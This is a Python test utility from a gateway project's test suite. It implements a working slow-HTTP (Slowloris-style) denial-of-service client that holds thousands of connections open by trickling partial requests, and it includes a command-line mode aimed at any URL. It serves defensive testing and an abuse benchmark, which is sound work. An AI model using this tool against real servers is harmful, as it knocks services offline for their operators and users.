"""Slow HTTP clients: connections from one address that never finish a request.

The attack of issue 16 (section 2) as a reusable tool, for tests/gateway/
test_slow_clients.py and for the abuse benchmark. Each connection sends part of a
request and then trickles the rest a few bytes at a time, so a server whose timer
is reset by every byte never lets it go:

    kind "head": a request head sent a few bytes at a time (never finished);
    kind "body": a whole head with Content-Length: N, then the body a byte at a time.

    with SlowClients("http://127.0.0.1:8080", 300, kind="head",
                     source="127.0.0.3") as slow:
        slow.open()          # connects all of them (refusals are recorded)
        slow.trickle()       # one more piece on each open connection
        slow.held()          # connections still open and unanswered
        slow.answers()       # {status: count} of what the server said (408, 429, ...)

Run as a script it holds N connections against a gateway until Ctrl-C or
--seconds, printing how many are held each second:

    python3 tests/pylib/abuse_http.py http://127.0.0.1:8080 --n 4200 --kind body
"""
import argparse
import resource
import selectors
import socket
import sys
import time
import urllib.parse

# the head is long enough that trickling it takes minutes
HEAD_LINES = b"".join(b"X-Pad-%d: %s\r\n" % (i, b"p" * 40) for i in range(64))


def target(url):
    u = urllib.parse.urlsplit(url)
    return u.hostname or "127.0.0.1", u.port or 80


def raise_fd_limit(need):
    """Raises the soft descriptor limit to fit need more sockets (up to the hard
    limit); returns how many sockets fit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = need + 256
    if soft != resource.RLIM_INFINITY and soft < want:
        new = want if hard == resource.RLIM_INFINITY else min(want, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (new, hard))
        soft = new
    return need if soft == resource.RLIM_INFINITY else max(0, min(need, soft - 256))


class _Conn:
    def __init__(self, sock, pending):
        self.sock = sock
        self.pending = pending  # bytes still to trickle
        self.out = b""          # what the server sent
        self.closed = False


class SlowClients:
    def __init__(self, url, n, kind="head", source="127.0.0.1", path="/v1/users",
                 content_length=1000, piece=3):
        assert kind in ("head", "body")
        self.host, self.port = target(url)
        self.n = n
        self.kind = kind
        self.source = source
        self.path = path.encode()
        self.content_length = content_length
        self.piece = piece
        self.conns = []
        self.failed = 0  # connects that failed (reset, refused by the kernel)
        self.sel = selectors.DefaultSelector()

    def _request(self):
        if self.kind == "head":
            return (b"POST " + self.path + b" HTTP/1.1\r\nHost: abuse\r\n"
                    b"Content-Type: application/json\r\n" + HEAD_LINES + b"\r\n"), 24
        head = (b"POST " + self.path + b" HTTP/1.1\r\nHost: abuse\r\n"
                b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n"
                % self.content_length)
        return head + b"{" + b" " * (self.content_length - 1), len(head) + 1

    def open(self):
        """Connects n sockets from source and sends each its first piece."""
        data, first = self._request()
        for _ in range(self.n):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                s.bind((self.source, 0))
                s.settimeout(5)
                s.connect((self.host, self.port))
                s.sendall(data[:first])
            except OSError:
                s.close()
                self.failed += 1
                continue
            s.setblocking(False)
            c = _Conn(s, data[first:])
            self.conns.append(c)
            self.sel.register(s, selectors.EVENT_READ, c)
        self.poll(0)
        return len(self.conns)

    def poll(self, timeout=0.0):
        """Reads whatever the server sent; a connection the server closed is done."""
        end = time.monotonic() + timeout
        while True:
            left = max(0.0, end - time.monotonic())
            events = self.sel.select(left)
            for key, _ in events:
                c = key.data
                try:
                    chunk = c.sock.recv(65536)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    chunk = b""
                if chunk:
                    c.out += chunk
                else:
                    self._close(c)
            if not events and time.monotonic() >= end:
                return

    def _close(self, c):
        if not c.closed:
            c.closed = True
            self.sel.unregister(c.sock)
            c.sock.close()

    def trickle(self):
        """Sends the next piece on every connection still open."""
        for c in self.conns:
            if c.closed or not c.pending:
                continue
            try:
                c.sock.send(c.pending[:self.piece])
                c.pending = c.pending[self.piece:]
            except OSError:
                self._close(c)
        self.poll(0)

    def hold(self, seconds, every=1.0):
        """Trickles for seconds, a piece per connection every `every` seconds."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.trickle()
            self.poll(min(every, max(0.0, end - time.monotonic())))

    def held(self):
        """Connections still open to which the server has said nothing."""
        return sum(1 for c in self.conns if not c.closed and not c.out)

    def answers(self):
        """{status: count} of the answers received (0: closed without an answer)."""
        out = {}
        for c in self.conns:
            if c.out:
                line = c.out.split(b"\r\n", 1)[0].split()
                status = int(line[1]) if len(line) > 1 and line[1].isdigit() else -1
            elif c.closed:
                status = 0
            else:
                continue
            out[status] = out.get(status, 0) + 1
        return out

    def bodies(self, status):
        """The answers with this status (whole responses as received)."""
        return [c.out for c in self.conns
                if c.out and c.out.split(b"\r\n", 1)[0].split()[1:2] == [b"%d" % status]]

    def close(self):
        for c in self.conns:
            self._close(c)
        self.sel.close()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("url", help="the gateway, e.g. http://127.0.0.1:8080")
    ap.add_argument("--n", type=int, default=1000, help="connections to hold")
    ap.add_argument("--kind", choices=("head", "body"), default="head")
    ap.add_argument("--source", default="127.0.0.1", help="local address to connect from")
    ap.add_argument("--seconds", type=float, default=60.0)
    a = ap.parse_args()
    n = raise_fd_limit(a.n)
    if n < a.n:
        print("only %d descriptors available: holding %d" % (n, n), file=sys.stderr)
    with SlowClients(a.url, n, kind=a.kind, source=a.source) as slow:
        opened = slow.open()
        print("opened %d, failed %d" % (opened, slow.failed))
        end = time.monotonic() + a.seconds
        while time.monotonic() < end:
            slow.hold(1.0)
            print("held %d answers %s" % (slow.held(), slow.answers()), flush=True)


if __name__ == "__main__":
    main()
